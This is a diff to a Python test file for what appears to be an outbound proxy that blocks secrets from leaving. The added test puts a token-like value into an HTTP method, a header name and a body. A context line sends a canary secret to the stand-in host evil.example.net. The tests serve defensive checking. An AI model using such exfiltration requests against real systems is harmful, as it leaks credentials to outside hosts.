@@ -150,6 +150,21 @@ async def test_a_host_name_may_hold_it_too() -> None:
         assert s.world.resolver.asked == []
 
 
+@pytest.mark.parametrize("place", ["method", "field name", "body of no coding"])
+async def test_nor_does_it_leave_where_nobody_would_write_it(place: str) -> None:
+    value = "ghp-4f9aq7c2e8d1"
+    async with scene(watched={NAME: value}) as at:
+        if place == "method":
+            answer = await at.ask(method=value)
+        elif place == "field name":
+            answer = await at.ask(headers=f"{value}: 1\r\n")
+        else:
+            answer = await at.ask(method="POST", headers="Content-Encoding: identity\r\n", body=f"{value}END".encode())
+        assert refused(answer)
+        assert value.encode() not in at.server.received
+        assert value not in at.said
+
+
 async def test_a_host_that_no_rule_allows_is_an_alarm_as_well() -> None:
     async with scene() as s:
         s.writer.write(f"GET http://evil.example.net/?k={CANARY} HTTP/1.1\r\nHost: evil.example.net\r\n\r\n".encode())
